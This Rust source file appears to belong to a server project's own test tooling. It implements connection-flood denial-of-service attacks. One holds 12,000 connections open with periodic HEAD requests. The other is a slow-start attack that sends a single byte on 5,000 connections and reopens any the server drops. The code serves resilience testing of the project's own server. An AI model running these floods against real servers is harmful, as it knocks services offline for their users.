//! Connections in numbers: each asks for little, or begins and does not go on.

use std::io::{self, Read as _, Write as _};
use std::net::TcpStream;
use std::thread;
use std::time::Duration;

use rustix::io::Errno;

use crate::attacks::attacker::shared::{Attacker, Tally, source};
use crate::connection::socket_from;
use crate::process::{now, pause, permit_many_files};
use xtask::shell::say;

/// What is done with many connections.
#[derive(Clone, Copy, Debug)]
pub(super) struct Hoard {
    connections: usize,
    /// What is sent on each connection.
    word: &'static [u8],
    /// Whether it is sent in each round, or once.
    again: bool,
    /// In which each connection has its turn once.
    round: Duration,
}

/// Connections that stay open because they ask for something now and then.
pub(super) const ASKING: Hoard = Hoard {
    connections: 12_000,
    word: b"HEAD /nope HTTP/1.1\r\nhost: localhost\r\n\r\n",
    again: true,
    round: Duration::from_secs(5),
};

/// Connections that say `P`, as HTTP/2's preface begins and as a `POST` does.
///
/// One that the server has closed is soon replaced.
pub(super) const BEGINNING: Hoard =
    Hoard { connections: 5_000, word: b"P", again: false, round: Duration::from_millis(500) };

/// Files that the process has open besides.
const OTHER_FILES: usize = 100;

/// Connections that are opened at a time; a listener's backlog has room for four times as many.
const AT_A_TIME: usize = 1_000;
const BETWEEN: Duration = Duration::from_millis(300);

/// How often some of them have their turn.
const TICK: Duration = Duration::from_millis(10);

/// Opens all connections, and has a thread look after them.
pub(super) fn begin(attacker: Attacker, hoard: Hoard) -> anyhow::Result<()> {
    let limit = permit_many_files()?.map(usize::try_from).transpose()?;
    let most = limit.map_or(usize::MAX, |limit| limit.saturating_sub(OTHER_FILES));
    let connections = hoard.connections.min(most);
    if connections < hoard.connections {
        say(&format!("only {connections} connections: ulimit -Hn permits no more files"));
    }
    let mut held = Vec::new();
    while held.len() < connections {
        held.push(Held::open(&attacker)?);
        if held.len().is_multiple_of(AT_A_TIME) {
            pause(BETWEEN);
        }
    }
    for held in &mut held {
        held.take_turn(&attacker, hoard)?;
    }
    thread::spawn(move || look_after(&mut held, &attacker, hoard));
    Ok(())
}

/// Gives each connection its turn, evenly over a round.
fn look_after(held: &mut [Held], attacker: &Attacker, hoard: Hoard) -> io::Result<()> {
    let ticks = hoard.round.as_millis() / TICK.as_millis();
    let at_a_time = held.len().div_ceil(usize::try_from(ticks).unwrap_or(1));
    loop {
        for some in held.chunks_mut(at_a_time) {
            let next = now() + TICK;
            for held in some {
                held.take_turn(attacker, hoard)?;
            }
            pause(next.saturating_duration_since(now()));
        }
    }
}

/// A connection that the attacker holds, or tries to.
#[derive(Debug)]
struct Held {
    stream: TcpStream,
    has_spoken: bool,
}

impl Held {
    /// Begins to connect; all are from one address.
    fn open(attacker: &Attacker) -> io::Result<Self> {
        let socket = socket_from(source(0))?;
        socket.set_nonblocking(true)?;
        // A reset leaves the port free for the next connection.
        socket.set_linger(Some(Duration::ZERO))?;
        match socket.connect(&attacker.target.into()) {
            Err(error) if Errno::from_io_error(&error) != Some(Errno::INPROGRESS) => Err(error),
            Ok(()) | Err(_) => {
                Tally::add(&attacker.tally.opened, 1);
                Ok(Self { stream: socket.into(), has_spoken: false })
            }
        }
    }

    /// Takes what has come, and says the word; a connection that was lost is opened again.
    fn take_turn(&mut self, attacker: &Attacker, hoard: Hoard) -> io::Result<()> {
        let mut spoken = self.read();
        if spoken.is_ok() && (hoard.again || !self.has_spoken) {
            spoken = self.stream.write_all(hoard.word);
            if spoken.is_ok() {
                self.has_spoken = true;
                Tally::add(&attacker.tally.sent, 1);
            }
        }
        match spoken {
            Err(error) if error.kind() != io::ErrorKind::WouldBlock => {
                Tally::add(&attacker.tally.lost, 1);
                *self = Self::open(attacker)?;
                Ok(())
            }
            Ok(()) | Err(_) => Ok(()),
        }
    }

    fn read(&mut self) -> io::Result<()> {
        match self.stream.read(&mut [0; 4 << 10]) {
            Ok(0) => Err(io::ErrorKind::UnexpectedEof.into()),
            Ok(_read) => Ok(()),
            Err(error) if error.kind() == io::ErrorKind::WouldBlock => Ok(()),
            Err(error) => Err(error),
        }
    }
}
